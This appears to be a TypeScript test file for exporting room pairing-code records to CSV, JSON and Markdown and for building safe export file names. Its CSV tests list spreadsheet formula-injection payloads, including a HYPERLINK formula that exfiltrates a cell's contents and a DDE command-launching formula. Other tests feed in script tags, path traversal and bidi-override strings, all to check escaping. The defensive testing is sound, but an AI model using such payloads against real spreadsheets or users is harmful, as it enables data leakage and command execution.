import assert from 'node:assert/strict';
import Papa from 'papaparse';
import { exportFileName } from '../../../../src/rollout/export/file-name';
import { rolloutRecord } from '../../../../src/rollout/export/record';
import { recordsAsCsv, recordsAsJson, recordsAsMarkdown } from '../../../../src/rollout/export/text-formats';
import { proposeColumns } from '../../../../src/rollout/list/propose-columns';
import { readRooms } from '../../../../src/rollout/list/read-list';
import { readTable } from '../../../../src/rollout/list/read-table';
import type { RolloutRow } from '../../../../src/rollout/room';
import { aRecord, aRow, BARE } from './records';

describe('rolloutRecord', () => {
  const describeError = (error: unknown) => `because of ${String(error)}`;
  const row = aRow();

  it('has everything that is known of a room', () => {
    assert.deepEqual(rolloutRecord(row, describeError), aRecord());
    const waiting: RolloutRow = {
      room: { endpointId: 'EP-1', label: undefined },
      state: 'waiting',
      hasChanged: false,
    };
    assert.deepEqual(rolloutRecord(waiting, describeError), {
      ...BARE,
      state: 'waiting',
      problem: undefined,
    });
  });

  it('describes the error or the doubt', () => {
    assert.equal(rolloutRecord({ ...row, error: 404 }, describeError).problem, 'because of 404');
    assert.match(
      rolloutRecord({ ...row, doubt: 'otherEndpoint' }, describeError).problem ?? '',
      /another endpoint/,
    );
    assert.match(
      rolloutRecord({ ...row, doubt: 'answersDiffer' }, describeError).problem ?? '',
      /just changed/,
    );
    const withheld = { id: 'PC-9', code: '999999', endpointId: 'EP-9' };
    assert.equal(
      rolloutRecord({ ...row, error: 404, doubt: 'otherEndpoint', withheld }, describeError).problem,
      'The service returned the code of endpoint EP-9',
    );
  });

  it('has no time for an invalid one', () => {
    assert.equal(rolloutRecord({ ...row, fetchedAt: Number.NaN }, describeError).fetchedAt, undefined);
  });
});

describe('recordsAsCsv', () => {
  const HEADER =
    'Label,Name,Endpoint ID,IP address,Pairing code,Pairing code ID,Capabilities,State,Problem,Fetched at';

  it('has a byte order mark, a header, CRLF and quotes where they are needed', () => {
    assert.equal(
      recordsAsCsv([aRecord({ name: 'The "big"\none' }), BARE]),
      `\ufeff${HEADER}\r\n` +
        '"Attic, left","The ""big""\none",EP-1,192.0.2.7,123456,PC-1,STATUS; JOIN,done,,2030-06-15T12:00:00.000Z\r\n' +
        ',,EP-1,,,,,failed,No endpoint has this ID (404),',
    );
    assert.equal(recordsAsCsv([]), `\ufeff${HEADER}`);
  });

  const formulas = [
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\0=1',
    '＝1',
    '\ttab',
    "'=1",
    "''-1",
  ];
  for (const text of formulas) {
    it(`guards a formula so that it can be restored: ${JSON.stringify(text)}`, () => {
      const csv = recordsAsCsv([aRecord({ label: text, endpointId: text, code: text })]);
      const { data } = Papa.parse<string[]>(csv, { delimiter: ',', newline: '\r\n' });
      assert.deepEqual([data[1]?.[0], data[1]?.[2], data[1]?.[4]], [`'${text}`, `'${text}`, `'${text}`]);
    });
  }

  for (const text of ["'", "'a", 'a=1', 'a-b', '1-2', '', '…=']) {
    it(`adds no guard where none is needed: ${JSON.stringify(text)}`, () => {
      const { data } = Papa.parse<string[]>(recordsAsCsv([aRecord({ code: text })]), {
        delimiter: ',',
        newline: '\r\n',
      });
      assert.equal(data[1]?.[4], text);
    });
  }

  it('can be read as the same list of rooms', () => {
    const table = readTable(recordsAsCsv([aRecord({ endpointId: '-7', label: '@home' }), BARE]));
    const { hasHeader, idColumn, labelColumn } = proposeColumns(table);
    assert.deepEqual([hasHeader, idColumn, labelColumn], [true, 2, 0]);
    const { rooms } = readRooms(table, { hasHeader, idColumn: idColumn ?? 0, labelColumn });
    assert.deepEqual(rooms, [
      { endpointId: '-7', label: '@home' },
      { endpointId: 'EP-1', label: undefined },
    ]);
  });
});

describe('recordsAsJson', () => {
  it('has every field in the same order, null without a value', () => {
    const text = recordsAsJson([BARE, aRecord({ name: '=1\u202e"\n</script>' })]);
    assert.equal(
      text.split('\n').slice(0, 13).join('\n'),
      `[
  {
    "label": null,
    "name": null,
    "endpointId": "EP-1",
    "ipAddress": null,
    "code": null,
    "pairingCodeId": null,
    "capabilities": null,
    "state": "failed",
    "problem": "No endpoint has this ID (404)",
    "fetchedAt": null
  },`,
    );
    const second: unknown = JSON.parse(text)[1];
    assert.deepEqual(second, { ...aRecord({ name: '=1\u202e"\n</script>' }), problem: null });
    assert.ok(text.endsWith(']\n'));
  });
});

describe('recordsAsMarkdown', () => {
  const cellOf = (name: string) => {
    const lines = recordsAsMarkdown([aRecord({ name })]).split('\n');
    assert.equal(lines.length, 4, 'a header, its rule, a row');
    return lines[2]?.replace(/^\| Attic, left \| (.*) \| EP-1 \|.*$/u, '$1');
  };

  it('writes a table', () => {
    assert.equal(
      recordsAsMarkdown([aRecord({ problem: 'Odd' })]),
      '| Label | Name | Endpoint ID | IP address | Pairing code | Pairing code ID | Capabilities | State | Problem | Fetched at |\n' +
        '| --- | --- | --- | --- | --- | --- | --- | --- | --- | --- |\n' +
        '| Attic, left | Board Room | EP-1 | 192.0.2.7 | 123456 | PC-1 | STATUS; JOIN | done | Odd | 2030-06-15T12:00:00.000Z |\n',
    );
  });

  const rows: readonly (readonly [text: string, cell: string])[] = [
    ['a|b', 'a\\|b'],
    ['a\\|b', 'a\\\\\\|b'],
    ['`a`', '\\`a\\`'],
    ['a\r\nb', 'a‹U+000D›‹U+000A›b'],
    ['<script>', '\\<script\\>'],
    ['[a](http://b)', '\\[a\\](http\\://b)'],
    ['![a](b)', '\\!\\[a\\](b)'],
    ['&lt;', '\\&lt;'],
    ['*a* _b_ ~c~ #1 {d} $e$', '\\*a\\* \\_b\\_ \\~c\\~ \\#1 \\{d\\} \\$e\\$'],
    ['WWW.example.com', 'WWW\\.example.com'],
    ['a\u202eb', 'a‹U+202E›b'],
    [' a ', 'a'],
    ['x'.repeat(100_000), `${'x'.repeat(1000)}…`],
  ];
  for (const [text, cell] of rows) {
    it(`keeps a text literal: ${JSON.stringify(text.slice(0, 40))}`, () => assert.equal(cellOf(text), cell));
  }
});

describe('exportFileName', () => {
  const at = new Date(2026, 10, 20, 23, 59).getTime();
  const rows: readonly (readonly [connection: string, name: string])[] = [
    ['Head office', 'pairing-codes-Head office-2026-11-20.csv'],
    ['Zürich 会议', 'pairing-codes-Zürich 会议-2026-11-20.csv'],
    ['a/b\\c:d*e?f"g<h>i|j', 'pairing-codes-a-b-c-d-e-f-g-h-i-j-2026-11-20.csv'],
    ['../..', 'pairing-codes-2026-11-20.csv'],
    ['', 'pairing-codes-2026-11-20.csv'],
    ['. a .', 'pairing-codes-a-2026-11-20.csv'],
    ['a\u202egpj\n\tb\0', 'pairing-codes-a-gpj-b-2026-11-20.csv'],
    ['CON', 'pairing-codes-CON-2026-11-20.csv'],
    ['x'.repeat(300), `pairing-codes-${'x'.repeat(60)}-2026-11-20.csv`],
    [`${'x'.repeat(59)}😀`, `pairing-codes-${'x'.repeat(59)}-2026-11-20.csv`],
  ];
  for (const [connection, name] of rows) {
    it(`proposes ${name}`, () => assert.equal(exportFileName(connection, at, 'csv'), name));
  }

  it('has two digits for month and day', () => {
    assert.equal(
      exportFileName('a', new Date(2027, 0, 2).getTime(), 'html'),
      'pairing-codes-a-2027-01-02.html',
    );
  });
});
